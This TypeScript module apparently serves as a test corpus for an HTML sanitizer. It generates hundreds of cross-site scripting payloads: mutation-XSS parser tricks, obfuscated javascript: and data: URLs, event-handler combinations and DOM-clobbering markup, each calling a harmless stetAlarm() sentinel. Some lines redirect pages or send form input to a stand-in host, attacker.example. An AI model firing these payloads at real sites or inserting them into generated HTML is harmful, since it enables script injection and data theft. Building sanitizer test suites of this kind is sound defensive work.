/** What a payload calls when it runs. */
export const alarm = "stetAlarm";

const call = `${alarm}()`;

const elements = [
  ..."a abbr audio body button details div embed form iframe img input keygen marquee math object p select".split(" "),
  ..."source span style summary svg table td template textarea title track video x-y".split(" "),
];
const events = [
  ..."abort animationstart beforetoggle blur canplay click contextmenu copy error focus focusin hashchange".split(" "),
  ..."input keydown load loadstart message mouseover pageshow pointerenter resize scroll select submit toggle".split(
    " ",
  ),
  ..."transitionend unload wheel begin end start finish".split(" "),
];

const schemes = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `javascript\n:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;avascript&colon;${call}`,
  `javascript&Tab;:${call}`,
  `javascript://%0a${call}`,
  `javascript:"/*'/*\`/*--></title></style></textarea></script><svg/onload=${call}>"`,
  `vbscript:${call}`,
  `data:text/html,<script>parent.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuc3RldEFsYXJtKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `blob:null/${call}`,
  `\u00A0javascript:${call}`,
  `\u2028javascript:${call}`,
];
const addressed = [
  ["a", "href"],
  ["area", "href"],
  ["iframe", "src"],
  ["embed", "src"],
  ["object", "data"],
  ["form", "action"],
  ["button", "formaction"],
  ["img", "src"],
  ["img", "srcset"],
  ["video", "poster"],
  ["table", "background"],
  ["link", "href"],
  ["base", "href"],
  ["svg:a", "xlink:href"],
  ["math", "href"],
] as const;

const img = `<img src=x onerror=${call}>`;
const coded = `&lt;img src=x onerror=${call}&gt;`;

/** Elements that end where nobody looks: comments, raw text, foreign content, tables, and what a second parse makes of them. */
const mutations = [
  `<script>${call}</script>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script/x>${call}</script/x>`,
  `<script>/*<!--*/${call}//--></script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"></script></svg>`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${call}"></set><a><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg></p><style><a id="</style>${img}">`,
  `<svg><style>${coded}</style></svg>`,
  `<svg><p><style><a title="</style>${img}"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${coded}">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>${img}">`,
  `<math><annotation-xml encoding="text/html"><svg onload=${call}></svg></annotation-xml></math>`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math>${img}</style></mglyph></form>`,
  `<noscript><p title="</noscript>${img}">`,
  `<noembed><p title="</noembed>${img}">`,
  `<noframes><p title="</noframes>${img}">`,
  `<xmp><p title="</xmp>${img}">`,
  `<iframe><p title="</iframe>${img}"></iframe>`,
  `<textarea><p title="</textarea>${img}">`,
  `<title><p title="</title>${img}">`,
  `<style><p title="</style>${img}">`,
  `<template><p title="</template>${img}"></template>`,
  `<template shadowrootmode="open">${img}</template>`,
  `<plaintext>${img}`,
  `<listing>${coded}</listing>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--${"-".repeat(3)}!>${img}-->`,
  `<![CDATA[${img}]]>`,
  `<?xml version="1.0"?><?x ${img} ?>`,
  `<!doctype html [<!ENTITY x "${img}">]>&x;`,
  `<table><caption>${img}</table>`,
  `<table><tr><td background="javascript:${call}">${img}`,
  `<select><option><style></select>${img}</style>`,
  `<select><keygen>${img}`,
  `<b <script>${call}//</script>0</b>`,
  `<a href="x" title='"><img src=x onerror=${call}>'>x</a>`,
  `<img src="x\`\`onerror=${call}//" alt="\`\`onerror=${call}">`,
  `<img/src="x"/onerror=${call}//`,
  `<img src=x:alert(1) onerror=eval(src) alt="${call}">`,
  `<img src="x" style="behavior:url(x);background:url(javascript:${call})">`,
  `<style>@import "data:text/css,*{background:url(javascript:${call})}";</style>`,
  `<div style="width:expression(${call})">x</div>`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
  `<link rel=import href="data:text/html,<script>${call}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<base href="https://attacker.example/"><a href="x">x</a>`,
  `<base target="_top"><form id=search action="https://attacker.example/"><input name=q></form>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>parent.${call}</script>"></object>`,
  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>">`,
  `<frameset onload=${call}><frame src="javascript:parent.${call}"></frameset>`,
  `<body onload=${call} onpageshow=${call}>`,
  `<details open ontoggle=${call}><summary>x</summary></details>`,
  `<input autofocus onfocus=${call}>`,
  `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${call}>x</div>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call} loop=1>x</marquee>`,
  `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${call}>x</p>`,
  `<form name=body><input name=firstChild><input name=attributes></form>`,
  `<form id=document><img name=cookie><img name=getElementById></form>`,
  `<a id=stet href="javascript:${call}"></a><a id=stet name=x href=y></a>`,
  `<img name=currentScript src="x">`,
  `\u0000<script>${call}</script>`,
  `<scr\u0000ipt>${call}</script>`,
  `<\u017Fcript>${call}</\u017Fcript>`,
  `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  `\uFE64img src=x onerror=${call}\uFE65`,
  `<img src=x onerror\u000B=${call}>`,
  `<a href="https://a.example/" onclick=${call} target=_blank rel=opener>x</a>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}<%= ${call} %>#{${call}}`,
  `]]></script><script>${call}</script>`,
  `</p></article></main></body></html><script>${call}</script>`,
  `--></style></title></textarea></template></noscript></svg></math></select></table>${img}`,
  `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>x</x>`,
  `<div contenteditable onbeforeinput=${call}>x</div>`,
  `<dialog open onclose=${call}>x<form method=dialog><button autofocus>x</button></form></dialog>`,
];

const handlers = elements.flatMap((name) =>
  events.map((event) => `<${name} src=x href=x open autofocus tabindex=0 on${event}="${call}">x</${name}>`),
);
const addresses = addressed.flatMap(([name, attribute]) =>
  schemes.map((scheme) => {
    const inside = name.startsWith("svg:");
    const tag = inside ? name.slice(4) : name;
    const element = `<${tag} ${attribute}="${scheme.replaceAll('"', "&quot;")}">x</${tag}>`;
    return inside ? `<svg>${element}</svg>` : element;
  }),
);

/** Markup that runs script, loads, redirects or hijacks where it is rendered as HTML; each calls `alarm()`. */
export const payloads: readonly string[] = [...mutations, ...addresses, ...handlers];
